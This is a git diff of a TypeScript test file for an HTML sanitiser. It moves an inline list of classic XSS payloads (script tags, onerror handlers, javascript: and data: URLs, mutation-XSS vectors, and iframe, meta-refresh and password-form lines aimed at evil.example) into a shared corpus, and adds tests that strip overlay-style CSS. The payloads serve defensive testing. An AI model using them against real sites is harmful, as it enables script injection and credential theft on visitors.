@@ -2,53 +2,8 @@ import { createRequire } from 'node:module';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { demoLegalRows } from '../../seed/legal';
+import { XSS_PAYLOADS as PAYLOADS } from '../../test/xss-corpus';
 import { isSafeUrl, sanitiseHtml } from './sanitise';
-
-// Classic XSS payloads: whatever they turn into must hold nothing that runs.
-const PAYLOADS = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="x" onerror="alert(1)" onload=alert(2)>',
-  '<svg onload=alert(1)><circle r=1 /></svg>',
-  '<svg><script>alert(1)</script></svg>',
-  '<a href="javascript:alert(1)">click</a>',
-  '<a href="JaVaScRiPt:alert(1)">click</a>',
-  '<a href=" &#14; javascript:alert(1)">click</a>',
-  '<a href="java&#x09;script:alert(1)">click</a>',
-  '<a href="jav&#x0A;ascript&colon;alert(1)">click</a>',
-  '<a href="vbscript:msgbox(1)">click</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
-  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<style>@import "https://evil.example/x.css";</style><p>text</p>',
-  '<style><img src=x onerror=alert(1)></style>',
-  '<p style="background:url(javascript:alert(1))">x</p>',
-  '<p style="width: expression(alert(1))">x</p>',
-  '<p style="background: u\\72l(https://evil.example)">x</p>',
-  '<iframe src="https://evil.example"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
-  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
-  '<button formaction="javascript:alert(1)">x</button>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<body onload=alert(1)>',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<base href="https://evil.example/">',
-  '<link rel="stylesheet" href="https://evil.example/x.css">',
-  '<template><script>alert(1)</script></template>',
-  '<div id="x"><a id="x" name="cookie">clobber</a></div>',
-  '<!--<img src="--><img src=x onerror=alert(1)//">',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<table><td><a href="javascript:alert(1)">x</a></td></table>',
-  '<p><a href="https://ok.example" target="_top" onclick="x()">ok</a></p>',
-  '<xmp><img src=x onerror=alert(1)></xmp>',
-  '<textarea><img src=x onerror=alert(1)></textarea>',
-  '<select><template><style><img src=x onerror=alert(1)></style></template></select>',
-];
 
 const ALLOWED_TAGS = new Set(
   'a abbr b blockquote br caption code col colgroup dd del div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s small span strong sub sup table tbody td tfoot th thead tr u ul'.split(
@@ -65,7 +20,10 @@ function assertInert(html: string) {
     for (const { name, value } of element.attributes) {
       expect(name.startsWith('on'), `${name} in ${html}`).toBe(false);
       if (name === 'href' || name === 'src') expect(isSafeUrl(value), value).toBe(true);
-      if (name === 'style') expect(value).not.toMatch(/url|expression|\\/i);
+      if (name === 'style') {
+        expect(value).not.toMatch(/url|expression|\\/i);
+        expect(value).not.toMatch(/position|inset|z-index|width|height|margin|transform/i);
+      }
     }
   }
 }
@@ -95,6 +53,17 @@ describe('sanitiseHtml', () => {
       '<img src="https://example.com/logo.png" alt="Logo"><p>line<br>break</p>',
     ].join('');
     expect(sanitiseHtml(editor)).toBe(editor);
+  });
+
+  it('keeps only the inline styles the editor writes, so nothing lays itself over the page', () => {
+    expect(
+      sanitiseHtml(
+        '<div style="position: fixed; inset: 0; z-index: 9999; color: red">cover</div><p style="width: 100vw">wide</p>',
+      ),
+    ).toBe('<div style="color: red">cover</div><p>wide</p>');
+    expect(sanitiseHtml('<p style="TEXT-ALIGN:right;;color:">x</p>')).toBe(
+      '<p style="text-align: right">x</p>',
+    );
   });
 
   it('makes links that open a new tab unable to reach back', () => {
